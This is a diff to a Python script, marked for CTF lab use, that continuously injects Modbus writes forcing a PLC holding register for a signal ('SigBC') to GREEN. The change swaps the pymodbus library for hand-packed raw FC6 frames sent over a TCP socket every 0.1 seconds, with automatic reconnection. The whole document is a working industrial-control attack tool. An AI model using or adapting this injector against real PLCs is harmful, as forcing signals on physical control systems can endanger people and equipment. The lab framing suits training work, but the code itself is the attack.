@@ -6,8 +6,9 @@ Forces SigBC (HR[1]) = 1 (GREEN) continuously.
 Educational / CTF lab use only.
 """
 
+import socket
+import struct
 import time
-from pymodbus.client import ModbusTcpClient
 
 PLC_IP = "127.0.0.1"
 PLC_PORT = 5020
@@ -18,36 +19,59 @@ SIG_BC_GREEN = 1
 
 WRITE_INTERVAL = 0.1  # seconds
 
+# Write Single Register (FC6): MBAP (7 bytes) + PDU (5 bytes)
+# Length is 6 bytes (UnitID + PDU). Only the TID is refreshed per write.
+FC6_FRAME = struct.Struct(">HHHBBHH")
+TID = struct.Struct(">H")
+
+
+def connect_plc():
+    """Open a raw TCP socket to the PLC, or return None if unreachable."""
+    try:
+        sock = socket.create_connection((PLC_IP, PLC_PORT), timeout=2.0)
+    except OSError:
+        return None
+    sock.setblocking(False)
+    return sock
+
+
+def drain_responses(sock):
+    """Discard any FC6 echoes the PLC sent back (write-then-forget)."""
+    while True:
+        try:
+            if not sock.recv(4096):
+                raise ConnectionResetError("PLC closed the connection")
+        except BlockingIOError:
+            return
+
+
 def run_injector():
     print("[*] Starting SigBC injector (forcing GREEN)")
-    client = None
+    sock = None
+    frame = bytearray(FC6_FRAME.pack(0, 0, 6, PLC_UNIT, 6, SIG_BC_ADDR, SIG_BC_GREEN))
+    tid = 0
 
     try:
         while True:
-            if client is None or not client.connected:
-                client = ModbusTcpClient(PLC_IP, port=PLC_PORT)
-                if not client.connect():
+            if sock is None:
+                sock = connect_plc()
+                if sock is None:
                     print("[-] PLC not reachable, retrying...")
                     time.sleep(1)
                     continue
                 print("[+] Connected to PLC")
 
             # Write HR[1] = 1 (GREEN)
+            TID.pack_into(frame, 0, tid)
+            tid = (tid + 1) & 0xFFFF
             try:
-                client.write_register(
-                    SIG_BC_ADDR,
-                    SIG_BC_GREEN,
-                    slave=PLC_UNIT
-                )
+                sock.sendall(frame)
+                drain_responses(sock)
                 print("[>] SigBC forced to GREEN (HR[1]=1)")
-            except TypeError:
-                # pymodbus v2 fallback
-                client.write_register(
-                    SIG_BC_ADDR,
-                    SIG_BC_GREEN,
-                    unit=PLC_UNIT
-                )
-                print("[>] SigBC forced to GREEN (legacy API)")
+            except OSError:
+                print("[-] Lost connection to PLC")
+                sock.close()
+                sock = None
 
             time.sleep(WRITE_INTERVAL)
 
@@ -55,8 +79,8 @@ def run_injector():
         print("\n[*] Injection stopped by user")
 
     finally:
-        if client:
-            client.close()
+        if sock:
+            sock.close()
         print("[*] Injector exited cleanly")
 
 if __name__ == "__main__":